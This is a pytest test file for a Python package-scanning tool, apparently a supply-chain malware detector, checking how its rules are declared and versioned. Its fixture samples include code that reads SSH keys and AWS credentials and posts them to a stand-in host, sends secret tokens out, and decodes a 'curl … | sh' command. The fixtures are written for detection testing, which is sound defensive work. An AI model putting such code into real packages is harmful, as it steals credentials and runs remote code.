"""Rules are declared once, decide on typed fields, and their version follows their sources."""

from __future__ import annotations

import ast
import dataclasses
import shutil
from importlib import resources
from pathlib import Path

import pytest

from interlock.analysis import engine
from interlock.analysis.evidence import Evidence
from interlock.analysis.rules import FILE_RULES
from interlock.artifact.model import Artifact
from interlock.artifact.reader import read_artifact
from interlock.demo import build_demo_releases
from interlock.diff import compare
from interlock.model import version
from interlock.model.findings import Severity
from interlock.model.rules import Stage
from interlock.ruleset import ALL_RULES, RULES_BY_ID
from tests.builders import sdist, wheel

# One sample per decision a rule makes on what the extractor knew, not on what it said.
SAMPLES: dict[str, Artifact] = {
    "build tool at install": sdist(
        {"setup.py": "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n"}
    ),
    "computed command at install": sdist({"setup.py": "import subprocess, sys\nsubprocess.call(sys.argv[1:])\n"}),
    "literal and computed exec": wheel({"demo/__init__.py": "exec('x = 1')\nexec(open('v.py').read() + '')\n"}),
    "plugin import": wheel({"demo/__init__.py": "import importlib, os\nimportlib.import_module(os.environ['P'])\n"}),
    "program from PATH, fetched": sdist(
        {
            "setup.py": "import os, urllib.request\n"
            "urllib.request.urlretrieve('https://x.example/t', 't')\nos.system('db2cli validate')\n"
        }
    ),
    "clipboard": wheel({"demo/__init__.py": "import pyperclip\npyperclip.copy(pyperclip.paste())\n"}),
    "pyarmor": wheel(
        {"demo/__init__.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\nimport os\nos.system('x')\n"}
    ),
    "credential stores sent": wheel(
        {
            "demo/__init__.py": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "a = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "requests.post('https://x.example', data=k + a)\n"
        }
    ),
    "two secret variables sent": wheel(
        {
            "demo/__init__.py": "import os, requests\n"
            "requests.post('https://x.example', json=[os.getenv('GITHUB_TOKEN'), os.getenv('AWS_SECRET_ACCESS_KEY')])\n"
        }
    ),
    "drop site called when asked": wheel(
        {"demo/util.py": "import requests\ndef f():\n    requests.get('https://webhook.site/abc')\n"}
    ),
    "decoded command": wheel(
        {
            "demo/__init__.py": "import base64, os\n"
            "os.system(base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL3AgfCBzaA==').decode())\n"
        }
    ),
    "obfuscated identifiers and escapes": wheel(
        {
            "demo/__init__.py": "\n".join(f"IlIlIlIl{i} = '\\x70\\x72\\x69\\x6e\\x74\\x28'" for i in range(25))
            + "\nimport os\nos.system('x')\n"
        }
    ),
}


def _reworded(evidence: Evidence) -> Evidence:
    return dataclasses.replace(
        evidence, facts=[dataclasses.replace(fact, detail="reworded") for fact in evidence.facts]
    )


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_rewording_every_fact_changes_no_finding(name: str) -> None:
    evidence = engine.gather_evidence(SAMPLES[name], engine.Deadline(60))
    assert evidence.facts, "the sample must give the rules something to decide on"
    as_seen = {(f.rule, f.severity, f.path, f.line) for f in engine.apply_rules(evidence)}
    reworded = {(f.rule, f.severity, f.path, f.line) for f in engine.apply_rules(_reworded(evidence))}
    assert as_seen == reworded
    assert as_seen, "the sample must make at least one finding"


def test_every_rule_is_declared_once_with_what_interlock_rules_shows() -> None:
    assert len(RULES_BY_ID) == len(ALL_RULES)
    for rule in ALL_RULES:
        assert rule.id == rule.id.lower() and " " not in rule.id
        assert rule.summary and len(rule.description) >= 40, rule.id
        assert rule.severities == tuple(sorted(set(rule.severities))), rule.id


def test_every_check_belongs_to_a_declared_file_rule() -> None:
    assert FILE_RULES
    for rule in FILE_RULES:
        assert RULES_BY_ID[rule.id] is rule.info
        assert rule.info.stage is Stage.FILES


def test_other_stages_declare_their_rules_without_checks() -> None:
    checked = {rule.id for rule in FILE_RULES}
    stages = {rule.stage for rule in ALL_RULES if rule.id not in checked}
    assert {Stage.HISTORY, Stage.PROVENANCE, Stage.INTEL} <= stages
    assert {"version-jump", "provenance-missing", "known-malicious"} <= set(RULES_BY_ID) - checked


def test_a_finding_of_an_undeclared_severity_is_refused() -> None:
    rule = RULES_BY_ID["typosquat"]
    with pytest.raises(ValueError, match="does not report"):
        rule.finding(Severity.CRITICAL, "", None, "m", "e")


def _copy_of_the_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    copy = tmp_path / "interlock"
    shutil.copytree(Path(str(resources.files("interlock"))), copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(version, "_ROOT", copy)
    return copy


@pytest.mark.parametrize(
    ("changed", "analyser_changes"),
    [
        ("analysis/rules/combinations.py", True),
        ("analysis/extract/python/visitor.py", True),
        ("diff/metadata.py", False),
        ("intel/popular_names.txt", False),
        ("index/provenance/rules.py", False),
    ],
)
def test_the_versions_follow_the_sources(
    changed: str, analyser_changes: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _copy_of_the_sources(tmp_path, monkeypatch)
    ruleset, analyser = version._digest(version._RULESET_PACKAGES), version._digest(version._ANALYSER_PACKAGES)
    with (copy / changed).open("a") as file:
        file.write("\n# changed\n")
    assert version._digest(version._RULESET_PACKAGES) != ruleset
    assert (version._digest(version._ANALYSER_PACKAGES) != analyser) is analyser_changes


def test_a_change_elsewhere_keeps_the_rule_set_version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    copy = _copy_of_the_sources(tmp_path, monkeypatch)
    before = version._digest(version._RULESET_PACKAGES)
    (copy / "report" / "text.py").write_text("# a report's wording decides no verdict\n")
    assert version._digest(version._RULESET_PACKAGES) == before


def _rule_id_literals() -> dict[str, list[str]]:
    """Where each rule id is written as a string in the source, enum values and dict values (labels
    that happen to read like an id, such as the capability `persistence`) aside."""
    ids = set(RULES_BY_ID)
    found: dict[str, list[str]] = {}
    root = Path(str(resources.files("interlock")))
    for path in sorted(root.rglob("*.py")):
        tree = ast.parse(path.read_text())
        skipped: set[int] = set()  # node ids, valid only while this tree is alive
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                skipped.update(id(sub) for statement in node.body for sub in ast.walk(statement))
            elif isinstance(node, ast.Dict):
                skipped.update(id(sub) for value in node.values for sub in ast.walk(value))
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and node.value in ids and id(node) not in skipped:
                found.setdefault(node.value, []).append(f"{path.relative_to(root)}:{node.lineno}")
    return found


def test_each_rule_id_is_written_once_where_it_is_declared() -> None:
    literals = _rule_id_literals()
    assert literals["beacon"] == ["analysis/rules/combinations.py:" + literals["beacon"][0].split(":")[1]]
    written_more = {rule: places for rule, places in literals.items() if len(places) > 1}
    assert not written_more, f"use the rule's declaration (RULE.id), not its id typed again: {written_more}"


def test_what_a_diff_escalates_a_finding_to_is_declared() -> None:
    for (rule, _), severity in compare._ESCALATED_WHEN_NEW.items():
        assert severity in RULES_BY_ID[rule].severities, (rule, severity)


def test_threats_are_shown_before_the_capabilities_they_combine(tmp_path: Path) -> None:
    """The order does not follow import order (an import sorter once reversed it)."""
    modules = [rule.check.__module__.rsplit(".", 1)[-1] for rule in FILE_RULES]
    assert modules.index("capabilities") > max(i for i, m in enumerate(modules) if m == "combinations")
    _, trojaned = build_demo_releases(tmp_path)
    first = engine.scan_artifact(read_artifact(trojaned), "demo").findings[0]
    assert (first.rule, first.path) == ("credential-exfiltration", "acme_greeter_init.pth")
